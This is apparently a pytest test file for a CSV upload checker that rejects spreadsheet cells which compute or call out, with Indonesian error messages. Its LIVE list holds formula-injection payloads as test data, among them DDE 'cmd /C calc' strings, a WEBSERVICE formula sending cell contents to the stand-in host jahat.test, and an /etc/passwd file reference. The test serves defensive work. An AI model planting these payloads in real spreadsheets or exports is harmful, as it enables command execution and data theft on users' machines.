"""A table of text as a proof: figures and words stay, a cell that computes is named by its line."""

from __future__ import annotations

import io
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from himpun.intake.proofs.judging import judge
from himpun.intake.proofs.table_child import answer
from himpun.intake.rules import media
from himpun.intake.rules.media import BadFile

PIECE = 1 << 20
LIVE = [
    '=HYPERLINK("http://jahat.test")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1;2)",
    "+WEBSERVICE(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "a,=1+IMPORTXML(A1)",
    'a;"=DDE(1)"',
    'a;" =DDE(1)"',
    "a\t\xa0=DDE(1)",
    "a\r=DDE(1)",
    'x "a,=DDE(1)"',
    '1,="' + "a" * 220 + '"&WEBSERVICE("http://jahat.test/"&A1)',
    "1,+1" + "+1" * 60 + "+cmd|' /C calc'!A0",
    "-'file:///etc/passwd'#$Sheet1.A1",
    "- catatan (lihat lampiran)",
]
PLAIN = [
    "-5,2", "+62 811 000", "a@contoh.id,1", "a=b,1", "a,-1", "-,-", "- belum ada", "-12,5%",
    "1E+05,-1.2e-3", "'=1+1,x", "pkl. 10:00 (WIB)",
]  # fmt: skip


def asked(content: bytes, most: int = 48 << 20) -> tuple[str, int]:
    told = answer(io.BytesIO(content), {"most": most})
    return told["why"], told["line"]


@pytest.mark.parametrize("line", LIVE)
def test_a_cell_that_computes_or_calls_is_named_by_its_line(line: str) -> None:
    assert asked(f"kode,nilai\n{line},\n".encode()) in {("formula", 2), ("formula", 3)}


@pytest.mark.parametrize("line", PLAIN)
def test_figures_and_words_of_a_table_stay(line: str) -> None:
    assert asked(f"kode,nilai\n{line}\n".encode()) == ("", 0)


@pytest.mark.parametrize("start", [b"=1+1,b\n", b"\xef\xbb\xbf=1+1,b\n", b'\xef\xbb\xbf"=1+1",b\n'])
def test_the_first_cell_is_a_cell(start: bytes) -> None:
    assert asked(start) == ("formula", 1)


@pytest.mark.parametrize("sign", ["|", "a", " ", "\r"])
def test_a_table_with_a_sign_of_its_own_between_cells_is_refused(sign: str) -> None:
    assert asked(f"sep={sign}\n1{sign}=cmd,1\n".encode())[0] == "formula"
    assert asked(b"sep=;\n1;2\n") == ("", 0)


@settings(max_examples=40, deadline=None)
@given(st.integers(-12, 12), st.sampled_from(LIVE[:6]), st.sampled_from([b"x", b" ", b'"', b"-"]))
def test_a_cell_over_the_edge_of_a_piece_is_seen(shift: int, line: str, filling: bytes) -> None:
    content = b"a;b\n" + filling * (PIECE - 4 + shift) + b";" + line.encode()
    assert asked(content) == ("formula", 2)


def test_a_cell_longer_than_a_piece_is_one_cell() -> None:
    assert asked(b"a,b\n-" + b"1" * 3 * PIECE + b"|calc,1\n") == ("formula", 2)
    assert asked(b"a,b\n " + b" " * 3 * PIECE + b"=1,1\n") == ("formula", 2)
    assert asked(b"a,b\nx" + b"-1" * 3 * PIECE + b"=1,1\n") == ("", 0)


def test_a_table_is_text_to_its_end() -> None:
    assert asked(b"a,b\n" * 20_000 + b"\0") == ("binary", 1)
    assert asked(b"a,b\n", most=3)[0] == "binary"


@pytest.mark.parametrize("piece", [b",-", b",", b"-", b" ", b'"', b",- a", b"a,b\n"])
def test_the_look_at_a_table_takes_time_by_its_length_only(piece: bytes) -> None:
    content = piece * (2 * PIECE // len(piece))
    began = time.process_time()
    assert asked(content) == ("", 0)
    assert time.process_time() - began < 1


def test_a_flood_of_cells_costs_the_server_nothing() -> None:
    began = time.process_time()
    with pytest.raises(BadFile, match="memuat rumus pada baris 2"):
        judge(io.BytesIO(b"a,b\n" + b",=" * (1 << 19) + b"\n"), name="tabel.csv")
    assert time.process_time() - began < 0.5


def test_a_table_is_judged_and_left_at_its_start() -> None:
    file = io.BytesIO(b"kode,nilai\nIKU-1,70\n")
    assert judge(file, name="tabel.csv").media_type == media.CSV
    assert file.tell() == 0
    with pytest.raises(BadFile, match="bukan tabel teks"):
        judge(io.BytesIO(b"a,b\n" * 20_000 + b"\0"), name="tabel.csv")
